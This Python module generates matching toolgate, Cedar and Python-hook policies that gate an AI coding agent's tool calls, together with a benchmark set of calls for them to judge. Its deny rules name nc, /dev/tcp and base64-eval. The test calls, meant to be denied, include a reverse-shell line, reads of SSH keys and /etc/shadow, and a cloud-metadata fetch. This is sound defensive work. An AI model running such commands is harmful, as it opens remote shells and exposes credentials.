"""Equivalent policies for toolgate, Cedar and a Python hook, generated from one spec.

A spec is a set of grants (tools, file reads and writes, denied paths, programs,
hosts) plus content rules (a literal string that, anywhere in the call's input,
denies it). From it this module writes:
  - a toolgate policy (grants in one profile) and a Lua rule pack (one rule per
    content rule, prefiltered on the literal, at most 250 rules a pack),
  - a Cedar policy set (a permit or forbid per grant, a forbid per content rule)
    and the Cedar request for every call,
  - the spec itself as JSON, which the Python and Node hooks read,
and the call set all three judge. Semantics shared by all three: default deny,
a matching deny (forbid) wins over any allow (permit); a call needs its tool
allowed and every resource it touches (one per call here) allowed.

Glob dialects differ: toolgate's `*` stops at `/` and `**` crosses it, Cedar's
`like` and Python's fnmatch `*` cross `/`. The patterns here only use `**` at a
path's end or start, where the three agree, and run.py checks that all three
give the same verdict for every call before timing anything.
"""

import json
import os
import shlex
import urllib.parse

CWD = "/home/dev/project"
HOME = "/home/dev"
AGENT = "claude-dev"

# The 30 grants of the "equivalent policies" row.
BASE_SPEC = {
    "tools": ["Read", "Write", "Edit", "Bash", "WebFetch", "Grep"],
    "read": [CWD + "/**", "/usr/**", "/etc/**"],
    "write": [CWD + "/**", "/tmp/**"],
    "fs_deny": [HOME + "/.ssh/**", "**/.env", "/etc/shadow*", "/proc/**"],
    "exec_allow": ["git", "ls", "make", "grep", "echo", "cat", "npm", "python3"],
    "exec_deny": ["sudo", "dd", "nc"],
    "net_allow": ["github.com", "*.github.com", "pypi.org"],
    "net_deny": ["169.254.169.254"],
    # The 10 content rules (Lua rules for toolgate).
    "rules": ["--force", "BEGIN RSA PRIVATE KEY", "AKIA", "password=", "DROP TABLE", "/dev/tcp/",
              "base64 -d", "chmod 777", "--no-verify", "eval(base64"],
}


def grant_count(spec):
    return sum(len(spec[k]) for k in ("tools", "read", "write", "fs_deny", "exec_allow", "exec_deny",
                                      "net_allow", "net_deny"))


def _call(tool, tool_input, n):
    return {"agent_id": AGENT, "session_id": "bench", "tool_name": tool, "tool_input": tool_input, "cwd": CWD,
            "call_id": "bench-%d" % n}


BASE_CALLS = [
    # allowed by the grants, no rule matches
    ("Read", {"file_path": CWD + "/src/main.c"}),
    ("Read", {"file_path": "/usr/include/stdio.h"}),
    ("Read", {"file_path": "/etc/hosts"}),
    ("Write", {"file_path": CWD + "/src/util.c", "content": "int answer(void) { return 42; }\n"}),
    ("Write", {"file_path": "/tmp/out.txt", "content": "ok\n"}),
    ("Edit", {"file_path": CWD + "/README.md", "old_string": "teh", "new_string": "the"}),
    ("Bash", {"command": "git status"}),
    ("Bash", {"command": "make -j2"}),
    ("Bash", {"command": "ls -la"}),
    ("Bash", {"command": "npm test"}),
    ("Bash", {"command": "echo hello"}),
    ("Bash", {"command": "git log --oneline -5"}),
    ("WebFetch", {"url": "https://github.com/org/repo", "prompt": "summarize"}),
    ("WebFetch", {"url": "https://api.github.com/repos/org/repo", "prompt": "stars?"}),
    ("WebFetch", {"url": "https://pypi.org/simple/requests/", "prompt": "versions"}),
    ("Grep", {"pattern": "TODO", "path": CWD + "/src"}),
    # denied by the grants
    ("Read", {"file_path": HOME + "/.ssh/id_rsa"}),
    ("Read", {"file_path": CWD + "/.env"}),
    ("Read", {"file_path": "/etc/shadow"}),
    ("Read", {"file_path": "/var/log/syslog"}),
    ("Write", {"file_path": "/etc/passwd", "content": "x"}),
    ("Bash", {"command": "sudo ls"}),
    ("Bash", {"command": "nc -l 4444"}),
    ("Bash", {"command": "rustc --version"}),
    ("WebFetch", {"url": "http://169.254.169.254/latest/meta-data", "prompt": "x"}),
    ("WebFetch", {"url": "https://pastebin.com/raw/abc", "prompt": "x"}),
    ("WebSearch", {"query": "cedar policy language"}),
    ("Task", {"description": "explore", "prompt": "look around"}),
    # allowed by the grants, denied by a content rule
    ("Bash", {"command": "git push --force origin main"}),
    ("Bash", {"command": "git commit --no-verify -m wip"}),
    ("Write", {"file_path": CWD + "/key.pem", "content": "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n"}),
    ("Write", {"file_path": CWD + "/config.py", "content": "AWS_KEY = 'AKIAIOSFODNN7EXAMPLE'\n"}),
    ("Write", {"file_path": CWD + "/db.sql", "content": "DROP TABLE users;\n"}),
    ("WebFetch", {"url": "https://github.com/login?password=hunter2", "prompt": "x"}),
    ("Edit", {"file_path": CWD + "/run.sh", "old_string": "true", "new_string": "bash -i >& /dev/tcp/10.0.0.1/4444"}),
    ("Write", {"file_path": CWD + "/x.sh", "content": "echo aGk= | base64 -d\n"}),
    ("Write", {"file_path": CWD + "/fix.sh", "content": "chmod 777 build\n"}),
    ("Write", {"file_path": CWD + "/m.py", "content": "exec(eval(base64.b64decode(s)))\n"}),
]


def base_calls():
    return [_call(t, i, n) for n, (t, i) in enumerate(BASE_CALLS, 1)]


def scaling_spec(n):
    """n grants (a third programs, a third read trees, the rest hosts) and n/10 content rules."""
    k = max(1, n // 3)
    spec = {
        "tools": ["Read", "Bash", "WebFetch"],
        "read": ["/data/d%05d/**" % i for i in range(k)],
        "write": [],
        "fs_deny": [],
        "exec_allow": ["prog%05d" % i for i in range(k)],
        "exec_deny": [],
        "net_allow": ["h%05d.example.com" % i for i in range(max(1, n - 2 * k - 3))],
        "net_deny": [],
        "rules": ["marker%05d" % i for i in range(max(1, n // 10))],
    }
    return spec


def scaling_calls(spec):
    """Calls that hit the first, middle and last grant of each kind, and miss."""
    calls = []
    def pick(items):
        return [items[0], items[len(items) // 2], items[-1]]
    for d in pick(spec["read"]):
        calls.append(("Read", {"file_path": d[:-3] + "/f.txt"}))
    calls.append(("Read", {"file_path": "/data/none/f.txt"}))
    for p in pick(spec["exec_allow"]):
        calls.append(("Bash", {"command": p + " --run"}))
    calls.append(("Bash", {"command": "progzzz --run"}))
    for h in pick(spec["net_allow"]):
        calls.append(("WebFetch", {"url": "https://%s/x" % h, "prompt": "p"}))
    calls.append(("WebFetch", {"url": "https://nowhere.example.org/x", "prompt": "p"}))
    for m in pick(spec["rules"]):
        calls.append(("Bash", {"command": "%s --run %s" % (spec["exec_allow"][0], m)}))
    return [_call(t, i, n) for n, (t, i) in enumerate(calls, 1)]


# ---------------------------------------------------------------- resources


def resource_of(call):
    """(kind, value) of the one resource a call touches: the same extraction the Python hook makes."""
    tool, inp = call["tool_name"], call["tool_input"]
    if tool in ("Read", "Grep"):
        p = inp.get("file_path") or inp.get("path") or call["cwd"]
        return "read", os.path.normpath(os.path.join(call["cwd"], p))
    if tool in ("Write", "Edit"):
        return "write", os.path.normpath(os.path.join(call["cwd"], inp["file_path"]))
    if tool == "Bash":
        words = shlex.split(inp["command"])
        return "exec", os.path.basename(words[0]) if words else ""
    if tool == "WebFetch":
        return "fetch", urllib.parse.urlsplit(inp["url"]).hostname or ""
    return "tool", tool


def call_text(call):
    """Every string in tool_input, newline-joined (what toolgate's rules see as call.text)."""
    out = []
    def walk(v):
        if isinstance(v, str):
            out.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)
    walk(call["tool_input"])
    return "\n".join(out)


# ---------------------------------------------------------------- toolgate


def toolgate_policy(spec, pack_path):
    profile = {
        "default": "deny",
        "unknown_effects": "deny",
        "tools": {"allow": spec["tools"]},
        "fs": {"read": spec["read"], "write": spec["write"], "deny": spec["fs_deny"]},
        "exec": {"allow": spec["exec_allow"], "deny": spec["exec_deny"]},
        "network": {"allow": spec["net_allow"], "deny": spec["net_deny"]},
    }
    for group in ("fs", "exec", "network"):
        profile[group] = {k: v for k, v in profile[group].items() if v}
    policy = {
        "toolgate_policy": 1,
        "description": "benchmark: %d grants and %d content rules" % (grant_count(spec), len(spec["rules"])),
        "settings": {"home": HOME, "resolve_symlinks": False},
        "default_profile": "bench",
        "agents": {AGENT: {"profile": "bench"}},
        "profiles": {"bench": profile},
    }
    packs = pack_names(spec)
    if packs:
        policy["rule_packs"] = {p: {"path": "%s.%s.lua" % (pack_path, p)} for p in packs}
        profile["rules"] = {p: True for p in packs}
    return policy


RULES_PER_PACK = 250  # toolgate takes at most 256 rules in one pack


def pack_names(spec):
    n = len(spec["rules"])
    return ["bench-rules-%d" % k for k in range((n + RULES_PER_PACK - 1) // RULES_PER_PACK)]


def lua_pack(spec, k):
    name = "bench-rules-%d" % k
    out = ['pack { id = "%s", description = "Benchmark content rules: a literal anywhere in the input denies." }' % name, ""]
    for i, lit in list(enumerate(spec["rules"]))[k * RULES_PER_PACK:(k + 1) * RULES_PER_PACK]:
        q = json.dumps(lit)  # a JSON string literal is a valid Lua string literal for these ASCII strings
        out.append('rule { id = "r%d", description = "deny %s", contains = { %s },' % (i, lit.replace('"', "'"), q))
        out.append('  check = function(call) if call.text:find(%s, 1, true) then return tg.deny("contains " .. %s) end end }' % (q, q))
    return "\n".join(out) + "\n"


# ---------------------------------------------------------------- Cedar


def _cedar_str(s):
    return json.dumps(s)


def _cedar_like(glob):
    # toolgate's ** (and * at a path's end) become Cedar's *, which crosses '/'.
    return _cedar_str(glob.replace("**", "*"))


def cedar_policies(spec):
    p = 'principal == Agent::"%s"' % AGENT
    out = []
    tools = ", ".join(_cedar_str(t) for t in spec["tools"])
    out.append("forbid (principal, action, resource) unless { [%s].contains(context.tool) };" % tools)
    for g in spec["read"]:
        out.append('permit (%s, action == Action::"read", resource) when { context.path like %s };' % (p, _cedar_like(g)))
    for g in spec["write"]:
        out.append('permit (%s, action == Action::"write", resource) when { context.path like %s };' % (p, _cedar_like(g)))
    for g in spec["fs_deny"]:
        out.append('forbid (principal, action in [Action::"read", Action::"write"], resource) when { context.path like %s };'
                   % _cedar_like(g))
    for g in spec["exec_allow"]:
        out.append('permit (%s, action == Action::"exec", resource == Program::%s);' % (p, _cedar_str(g)))
    for g in spec["exec_deny"]:
        out.append('forbid (principal, action == Action::"exec", resource == Program::%s);' % _cedar_str(g))
    for g in spec["net_allow"]:
        if "*" in g:
            out.append('permit (%s, action == Action::"fetch", resource) when { context.host like %s };' % (p, _cedar_str(g)))
        else:
            out.append('permit (%s, action == Action::"fetch", resource == Host::%s);' % (p, _cedar_str(g)))
    for g in spec["net_deny"]:
        out.append('forbid (principal, action == Action::"fetch", resource == Host::%s);' % _cedar_str(g))
    for lit in spec["rules"]:
        out.append("forbid (principal, action, resource) when { context.text like %s };" % _cedar_str("*" + lit + "*"))
    return "\n".join(out) + "\n"


CEDAR_SCHEMA = """entity Agent;
entity File, Program, Host, Tool;
type Ctx = { tool: String, path: String, host: String, text: String };
action read, write appliesTo { principal: Agent, resource: File, context: Ctx };
action exec appliesTo { principal: Agent, resource: Program, context: Ctx };
action fetch appliesTo { principal: Agent, resource: Host, context: Ctx };
action tool appliesTo { principal: Agent, resource: Tool, context: Ctx };
"""


def cedar_request(call):
    kind, value = resource_of(call)
    rtype = {"read": "File", "write": "File", "exec": "Program", "fetch": "Host", "tool": "Tool"}[kind]
    return {
        "principal": {"type": "Agent", "id": call["agent_id"]},
        "action": {"type": "Action", "id": kind},
        "resource": {"type": rtype, "id": value},
        "context": {"tool": call["tool_name"], "path": value if rtype == "File" else "",
                    "host": value if rtype == "Host" else "", "text": call_text(call)},
        "entities": [],
    }


# ---------------------------------------------------------------- writing


def write_set(directory, name, spec, calls):
    """Writes NAME.policy.json, NAME.bench-rules-K.lua, NAME.cedar, NAME.cedar-requests.json, NAME.spec.json, NAME.calls.jsonl."""
    os.makedirs(directory, exist_ok=True)
    paths = {k: os.path.join(directory, name + suffix) for k, suffix in (
        ("policy", ".policy.json"), ("cedar", ".cedar"), ("requests", ".cedar-requests.json"),
        ("spec", ".spec.json"), ("calls", ".calls.jsonl"), ("schema", ".cedarschema"))}
    with open(paths["policy"], "w") as f:
        json.dump(toolgate_policy(spec, name), f, indent=1)
    for k, pack in enumerate(pack_names(spec)):
        with open(os.path.join(directory, "%s.%s.lua" % (name, pack)), "w") as f:
            f.write(lua_pack(spec, k))
    with open(paths["cedar"], "w") as f:
        f.write(cedar_policies(spec))
    with open(paths["schema"], "w") as f:
        f.write(CEDAR_SCHEMA)
    with open(paths["requests"], "w") as f:
        json.dump([cedar_request(c) for c in calls], f)
    with open(paths["spec"], "w") as f:
        json.dump(dict(spec, cwd=CWD, home=HOME), f)
    with open(paths["calls"], "w") as f:
        for c in calls:
            f.write(json.dumps(c) + "\n")
    return paths
